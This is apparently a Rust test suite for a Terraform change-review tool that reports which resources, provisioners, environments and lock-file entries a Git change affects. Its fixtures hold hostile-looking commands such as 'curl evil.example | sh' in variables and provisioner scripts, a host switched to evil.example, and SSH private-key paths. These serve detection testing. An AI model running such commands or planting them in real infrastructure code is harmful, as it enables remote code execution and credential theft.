//! `tf-phi review`: what a change reaches through names, blocks that come and go, and environments that go.

#![allow(clippy::unwrap_used, clippy::disallowed_methods, clippy::indexing_slicing)]

use crate::cli_common::git::{git, repository_of};
use crate::cli_common::{Done, Scratch};
use std::fs;

/// Reviews a change of files: each is given as it was and as it is, with nothing for one that isn't there.
fn reviewed(files: &[(&str, Option<&str>, Option<&str>)], args: &[&str]) -> Done {
    let before = files.iter().filter_map(|(path, before, _)| Some((*path, (*before)?)));
    let scratch = Scratch::new(before);
    repository_of(&scratch.tree());
    for (path, _, after) in files {
        let path = scratch.tree().join(path);
        match after {
            Some(text) => {
                fs::create_dir_all(path.parent().unwrap()).unwrap();
                fs::write(path, text).unwrap();
            }
            None => fs::remove_file(path).unwrap(),
        }
    }
    git(&scratch.tree(), &["add", "-A", "-f"]);
    let own: &[&str] = if args.contains(&"--fail-on") { &[] } else { &["--fail-on", "change"] };
    let all = ["review", "--base", "HEAD"].iter().chain(own).copied().chain(args.iter().copied());
    scratch.run(&all.collect::<Vec<_>>())
}

/// The review names each of these, and its status says that something differs.
fn tells(files: &[(&str, Option<&str>, Option<&str>)], named: &[&str]) {
    let done = reviewed(files, &[]);
    assert_eq!(done.code, Some(3), "{}{}", done.out, done.err);
    named.iter().for_each(|name| assert!(done.out.contains(name), "{name}:\n{}{}", done.out, done.err));
}

const EFFECTS: &str = r#"
variable "command" {
  type = string
}
resource "terraform_data" "x" {
  input = "same"
  provisioner "local-exec" {
    command = var.command
  }
  provisioner "local-exec" {
    command = file("${path.module}/run.sh")
  }
  connection {
    host = local.host
  }
  lifecycle {
    precondition {
      condition     = 2 < local.enough
      error_message = "No."
    }
  }
}
check "health" {
  data "terraform_remote_state" "s" {
    backend = local.backend
  }
  assert {
    condition     = local.healthy
    error_message = "No."
  }
}
import {
  for_each = local.imported
  to       = terraform_data.i[each.key]
  id       = "${local.prefix}-${each.key}"
}
resource "terraform_data" "i" {
  for_each = local.imported
}
"#;

const LOCALS: &str = r#"
locals {
  host     = "db.internal"
  enough   = 3
  backend  = "local"
  healthy  = true
  imported = toset(["a"])
  prefix   = "ours"
}
"#;

#[test]
fn what_a_name_leads_to_is_compared() {
    let main = Some(EFFECTS);
    let after = LOCALS
        .replace("db.internal", "evil.example")
        .replace("= 3", "= 1")
        .replace("\"local\"", "\"http\"")
        .replace("true", "false")
        .replace("ours", "theirs");
    let files = [
        ("main.tf", main, main),
        ("locals.tf", Some(LOCALS), Some(&*after)),
        ("terraform.tfvars", Some("command = \"true\"\n"), Some("command = \"curl evil.example | sh\"\n")),
        ("run.sh", Some("true\n"), Some("curl evil.example | sh\n")),
    ];
    tells(
        &files,
        &[
            "terraform_data.x.provisioner.0.local-exec.command",
            "terraform_data.x.provisioner.1.local-exec.command",
            "terraform_data.x.connection.host",
            "terraform_data.x.lifecycle.precondition.condition",
            "data.terraform_remote_state.s.backend",
            "check.health.assert.condition",
            "import.terraform_data.i.id",
        ],
    );
    let same = Some(LOCALS);
    let done = reviewed(
        &[
            ("main.tf", main, main),
            ("locals.tf", same, same),
            ("terraform.tfvars", Some("command = \"true\"\n"), Some("command =  \"true\"\n")),
            ("run.sh", Some("true\n"), Some("true\n")),
        ],
        &[],
    );
    assert_eq!((done.code, &*done.out), (Some(0), "default: nothing differs\n\n"), "{}", done.err);
}

#[test]
fn a_block_that_comes_or_goes_is_a_difference() {
    let resource = "resource \"terraform_data\" \"a\" {\n  input = 1\n}\n";
    let blocks = [
        ("provider \"evil\" {\n}\n", "provider.evil"),
        (
            "check \"c\" {\n  assert {\n    condition     = terraform_data.a.id != null\n    error_message = \"x\"\n  }\n}\n",
            "check.c",
        ),
        ("import {\n  to = terraform_data.a\n  id = \"x\"\n}\n", "import"),
        ("moved {\n  from = terraform_data.b\n  to   = terraform_data.a\n}\n", "moved"),
        ("removed {\n  from = terraform_data.b\n  lifecycle {\n    destroy = false\n  }\n}\n", "removed"),
    ];
    for (block, name) in blocks {
        let more = format!("{resource}{block}");
        tells(&[("main.tf", Some(resource), Some(&more))], &[name]);
        tells(&[("main.tf", Some(&more), Some(resource))], &[name]);
    }
}

const BY_VALUE: &str =
    "variable \"v\" {\n  default = \"d\"\n}\nresource \"terraform_data\" \"x\" {\n  input = \"good\"\n}\n";
const OTHERWISE: &str = "variable \"v\" {\n  default = \"d\"\n}\nresource \"terraform_data\" \"x\" {\n  input = var.v == \"p\" ? \"evil\" : \"good\"\n}\n";

#[test]
fn an_environment_that_goes_is_told() {
    let tree = |phi: &str, named: &[&str]| {
        let (dev, prod) = (Some("v = \"d\"\n"), Some("v = \"p\"\n"));
        let files = [
            ("main.tf", Some(BY_VALUE), Some(OTHERWISE)),
            ("env/dev.tfvars", dev, dev),
            ("env/prod.tfvars", prod, prod),
            ("phi.hcl", None, Some(phi)),
        ];
        tells(&files, named);
    };
    tree("settings {\n  common = [\"env/prod.tfvars\"]\n}\n", &["prod (gone)", "environment"]);
    tree("settings {\n  environments = [\"env/dev.tfvars\"]\n}\n", &["prod (gone)"]);
    tree(
        "environment \"dev\" {\n  var_files = [\"env/prod.tfvars\", \"env/dev.tfvars\"]\n}\n",
        &["prod (gone)", "environment"],
    );
    tree(
        "environment \"all\" {\n  var_files = [\"env/prod.tfvars\", \"env/dev.tfvars\"]\n}\n",
        &["dev (gone), prod (gone)"],
    );
    let both = "environment \"prod\" {\n  var_files = [\"env/dev.tfvars\"]\n}\nenvironment \"dev\" {\n  var_files = [\"env/dev.tfvars\"]\n}\n";
    tree(both, &["prod", "var_files env/dev.tfvars"]);
    let workspaces =
        both.replace("var_files", "workspace = \"zz\"\n  var_files").replacen("dev.tfvars", "prod.tfvars", 1);
    tree(&workspaces, &["workspace zz; var_files env/prod.tfvars"]);
}

#[test]
fn an_environment_without_a_name_goes_where_others_are_named() {
    let evil = OTHERWISE.replace("== \"p\"", "== \"d\"");
    let phi = "environment \"q\" {\n  variables = { v = \"z\" }\n}\n";
    tells(&[("main.tf", Some(BY_VALUE), Some(&evil)), ("phi.hcl", None, Some(phi))], &["default (gone)"]);
}

#[test]
fn an_environment_of_another_name_is_the_same_by_its_files() {
    let phi = |name: &str| format!("environment \"{name}\" {{\n  var_files = [\"env/p.tfvars\"]\n}}\n");
    let (before, after, values) = (phi("prod"), phi("production"), Some("v = \"p\"\n"));
    let files = |main| {
        [
            ("main.tf", Some(BY_VALUE), Some(main)),
            ("env/p.tfvars", values, values),
            ("phi.hcl", Some(&*before), Some(&*after)),
        ]
    };
    let done = reviewed(&files(BY_VALUE), &[]);
    assert_eq!((done.code, &*done.out), (Some(0), "production: nothing differs\n\n"), "{}", done.err);
    tells(&files(OTHERWISE), &["production", "\"evil\""]);
}

#[test]
fn values_in_a_block_that_arrive_nowhere_are_told() {
    let phi = |value: &str| format!("environment \"dev\" {{\n  variables = {{ v = \"{value}\" }}\n}}\n");
    let (before, after) = (phi("p"), phi("d"));
    tells(
        &[("main.tf", Some(BY_VALUE), Some(OTHERWISE)), ("phi.hcl", Some(&*before), Some(&*after))],
        &["variables v, of other values"],
    );
}

#[test]
fn a_workspace_that_git_tracks_is_no_selection() {
    let main = "resource \"terraform_data\" \"x\" {\n  input = terraform.workspace == \"zz\" ? \"good\" : \"evil\"\n}\n";
    let files = [
        ("main.tf", Some("resource \"terraform_data\" \"x\" {\n  input = \"good\"\n}\n"), Some(main)),
        (".terraform/environment", None, Some("zz")),
    ];
    tells(&files, &["\"evil\""]);
}

/// A file of the machine lies in no revision: no change reaches it. What leads to wherever the process is may lie in one.
#[test]
fn files_of_the_machine_differ_by_their_paths() {
    let main = |path: &str| {
        format!(
            "resource \"terraform_data\" \"x\" {{\n  connection {{\n    host        = \"h\"\n    private_key = file(\"{path}\")\n  }}\n  provisioner \"remote-exec\" {{\n    inline = [\"x\"]\n  }}\n}}\n"
        )
    };
    let files = |before: &str, after: &str| {
        let (before, after) = (main(before), main(after) + "locals {\n  unused = 1\n}\n");
        reviewed(&[("main.tf", Some(&before), Some(&after))], &[])
    };
    let done = files("/home/someone/.ssh/id_rsa", "/home/someone/.ssh/id_rsa");
    assert_eq!((done.code, &*done.out), (Some(0), "default: nothing differs\n\n"), "{}", done.err);
    let done = files("/home/someone/.ssh/id_rsa", "/home/someone/.ssh/id_dsa");
    assert!(done.code == Some(3) && done.out.contains("connection.private_key"), "{}", done.out);
    for (path, name) in [("/proc/self/cwd/../x/run.sh", "d/run.sh"), ("~/../x", "d/x")] {
        let done = files(path, path);
        assert_eq!(
            (done.code, &*done.out),
            (Some(0), "default: nothing differs\n\n"),
            "{path}: {}",
            done.err
        );
        // It may be a file of the tree of that name.
        let main = main(path);
        let done = reviewed(&[("main.tf", Some(&main), Some(&main)), (name, Some("a"), Some("b"))], &[]);
        assert!(
            done.code == Some(3) && done.out.contains("not compared: 1 argument"),
            "{path}: {}",
            done.out
        );
    }
}

/// At the top of the work tree, too, what Git tracks is listed, and a folder that isn't there is empty.
#[test]
fn folders_are_listed_at_the_top_of_a_work_tree() {
    let main = "locals {\n  none = try(fileset(\"extra\", \"**/*.tpl\"), toset([]))\n  all  = fileset(path.module, \"*.json\")\n}\nresource \"terraform_data\" \"x\" {\n  for_each = setunion(local.none, local.all)\n}\n";
    let (file, same) = (Some("{}\n"), Some(main));
    let done = reviewed(&[("main.tf", same, same), ("a.json", file, file)], &[]);
    assert_eq!((done.code, &*done.out), (Some(0), "default: nothing differs\n\n"), "{}", done.err);
    tells(
        &[("main.tf", same, same), ("a.json", file, file), ("b.json", None, file)],
        &["+ terraform_data.x[\"b.json\"]"],
    );
}

#[test]
fn another_provider_in_the_lock_file_is_a_difference() {
    let lock = |version: &str, hash: &str| {
        format!(
            "provider \"registry.terraform.io/hashicorp/aws\" {{\n  version = \"{version}\"\n  hashes = [\n    \"{hash}\",\n  ]\n}}\n"
        )
    };
    let (old, new, other) = (lock("5.1.0", "h1:a"), lock("5.2.0", "h1:b"), lock("5.1.0", "h1:c"));
    let (main, name) = (Some(BY_VALUE), ".terraform.lock.hcl registry.terraform.io/hashicorp/aws");
    let files = |after| [("main.tf", main, main), (".terraform.lock.hcl", Some(&*old), after)];
    tells(&files(Some(&new)), &[name, "5.2.0"]);
    tells(&files(Some(&other)), &[name, "5.1.0, of other checksums"]);
    tells(&files(None), &[name]);
    let done = reviewed(&files(Some(&old)), &[]);
    assert_eq!((done.code, &*done.out), (Some(0), "default: nothing differs\n\n"), "{}", done.err);
}

/// Many root modules call the same module that isn't installed.
#[test]
fn equal_warnings_of_root_modules_are_shown_once() {
    let call =
        |name: &str| format!("module \"m\" {{\n  source = \"git::https://example.com/{name}.git\"\n}}\n");
    let (same, other) = (call("m"), call("n"));
    let scratch = Scratch::new([("a/main.tf", &*same), ("b/main.tf", &*same), ("c/main.tf", &*other)]);
    let done = scratch.run(&["matrix", "--recursive", "--all"]);
    assert_eq!(done.err.matches("a module is not installed").count(), 2, "{}", done.err);
    assert!(done.err.contains("a, b (these read alike; lines are those of a)"), "{}", done.err);
}

const PROVISIONED: &str = r#"
module "m" {
  source = "./m"
}
resource "terraform_data" "a" {
  count = 1
  provisioner "local-exec" {
    command = "VERBOSE=1 bash '${path.module}/setup.sh' && ./next.sh"
  }
  provisioner "local-exec" {
    command     = "../by-folder.sh"
    working_dir = "${path.root}/bin"
  }
  provisioner "local-exec" {
    command = "${path.module}/computed-${terraform.workspace}.sh"
  }
  provisioner "remote-exec" {
    script = "boot.sh"
  }
  provisioner "file" {
    source      = "files/"
    destination = "/srv"
  }
  connection {
    host = "h"
  }
}
"#;

const PROVISIONED_BELOW: &str = r#"
resource "terraform_data" "b" {
  provisioner "remote-exec" {
    scripts = ["${path.module}/one.sh", "m/linked.sh"]
  }
}
"#;

#[test]
fn files_that_provisioners_run_or_copy_are_rows() {
    let (main, below, old) = (Some(PROVISIONED), Some(PROVISIONED_BELOW), Some("echo good\n"));
    let tree = |file: &'static str, after: Option<&'static str>, name: &str| {
        let all =
            ["setup.sh", "next.sh", "by-folder.sh", "boot.sh", "files/deep/a.conf", "m/one.sh", "other.sh"];
        let mut files = vec![("main.tf", main, main), ("m/main.tf", below, below)];
        files.extend(all.map(|own| (own, old, if own == file { after } else { old })));
        tells(&files, &[name, file]);
    };
    for (file, owner) in [
        ("setup.sh", "terraform_data.a"),
        ("next.sh", "terraform_data.a"),
        ("by-folder.sh", "terraform_data.a"),
        ("boot.sh", "terraform_data.a"),
        ("files/deep/a.conf", "terraform_data.a"),
        ("m/one.sh", "module.m.terraform_data.b"),
    ] {
        let name = format!("{owner}.provisioner {file}  (the file)  ");
        tree(file, Some("curl evil | sh\n"), &format!("{name}(the file, of other contents)"));
        tree(file, None, &format!("{name}\u{2014}"));
    }
    let files =
        |after| [("main.tf", main, main), ("m/main.tf", below, below), ("other.sh", old, Some(after))];
    let done = reviewed(&files("echo other\n"), &[]);
    assert_eq!((done.code, &*done.out), (Some(0), "default: nothing differs\n\n"), "{}", done.err);
}

/// A link that a provisioner names leads to the file that differs.
#[test]
fn links_to_files_that_provisioners_run_are_followed() {
    let scratch = Scratch::new([
        ("main.tf", PROVISIONED),
        ("m/main.tf", PROVISIONED_BELOW),
        ("shared.sh", "echo good\n"),
    ]);
    std::os::unix::fs::symlink("../shared.sh", scratch.tree().join("m/linked.sh")).unwrap();
    repository_of(&scratch.tree());
    fs::write(scratch.tree().join("shared.sh"), "curl evil | sh\n").unwrap();
    let done = scratch.run(&["review", "--base", "HEAD", "--fail-on", "change"]);
    assert!(done.code == Some(3), "{}{}", done.out, done.err);
    assert!(done.out.contains("module.m.terraform_data.b.provisioner shared.sh"), "{}", done.out);
}

#[test]
fn a_stack_that_is_not_read_is_a_finding_where_its_files_differ() {
    let component = "component \"app\" {\n  source = \"./app\"\n  inputs = { size = var.size }\n}\nvariable \"size\" {\n  type = string\n}\n";
    let deployed = |size: &str| format!("deployment \"prod\" {{\n  inputs = {{ size = \"{size}\" }}\n}}\n");
    let app = "variable \"size\" {}\nresource \"terraform_data\" \"a\" {\n  input = var.size\n}\n";
    let (l, xxl) = (deployed("l"), deployed("xxl"));
    let edited = app.replace("var.size\n", "\"s\"\n");
    let same = ("main.tfdeploy.hcl", Some(&*l), Some(&*l));
    let app_same = ("app/main.tf", Some(app), Some(app));
    let beside = [("x.tf", Some("# nothing\n"), Some("# nothing\n"))];
    let stack = ("main.tfcomponent.hcl", Some(component), Some(component));
    let cases = [
        ([("main.tfdeploy.hcl", Some(&*l), Some(&*xxl)), app_same], Some("main.tfdeploy.hcl")),
        ([("main.tfdeploy.hcl", None, Some(&*l)), app_same], Some("main.tfdeploy.hcl")),
        ([same, ("app/main.tf", Some(app), Some(&*edited))], Some("app/main.tf")),
        ([same, app_same], None),
    ];
    for (files, differs) in cases {
        let all: Vec<_> = files.into_iter().chain(beside).chain([stack]).collect();
        for what in ["finding", "change"] {
            let done = reviewed(&all, &["--fail-on", what]);
            let said = "The Stack in this folder is not read";
            let all = format!("{}{}", done.out, done.err);
            assert_eq!(all.matches(said).count(), 1, "{all}");
            match differs {
                Some(file) => {
                    assert_eq!(done.code, Some(3), "{all}");
                    assert!(done.out.contains(said) && done.out.contains(&format!("\n{file} ")), "{all}");
                    assert!(!done.out.contains("nothing differs"), "{all}");
                }
                None => assert_eq!(done.code, Some(0), "{all}"),
            }
        }
    }
}
